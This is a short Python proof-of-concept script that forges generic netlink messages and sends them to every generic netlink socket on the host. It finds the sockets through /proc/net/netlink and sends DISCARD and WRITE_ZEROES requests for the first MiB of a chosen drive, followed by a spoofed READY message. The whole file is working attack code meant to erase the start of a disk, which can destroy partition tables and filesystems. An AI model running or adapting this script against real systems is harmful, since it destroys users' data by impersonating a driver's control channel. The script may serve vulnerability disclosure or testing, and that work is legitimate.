#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Sends requests that the driver didn't make to every socket of generic netlink, as
who has CAP_NET_ADMIN may: to empty the drive's first MiB, and to say it's ready.

usage: forge.py INDEX
"""

import struct
import sys

from netlink import NETLINK_GENERIC, NUMBERS, Family, attribute

INDEX, DESCRIPTORS = 1, 10
DISCARD, WRITE_ZEROES = 2, 3


def main():
    family = Family()
    drive = attribute(INDEX, struct.pack("I", int(sys.argv[1])))
    requests = b"".join(struct.pack("QIIII", 0, 2048, tag, op, 0)
                        for tag in (0, 1024, 1025) for op in (DISCARD, WRITE_ZEROES))
    with open("/proc/net/netlink", encoding="utf-8") as file:
        ports = [int(w[2]) for w in map(str.split, file) if w[1] == str(NETLINK_GENERIC)]
    sent = 0
    for port in ports:
        for name, content in (("REQUEST", attribute(DESCRIPTORS, requests)), ("READY", b"")):
            body = struct.pack("BBH", NUMBERS[name], 1, 0) + drive + content
            header = struct.pack("IHHII", len(body) + 16, family.id, 0, 0, 0)
            if port not in (0, family.sock.getsockname()[0]):
                sent += family.sock.sendto(header + body, (port, 0)) > 0
    print(sent)
    sys.exit(sent == 0)


main()
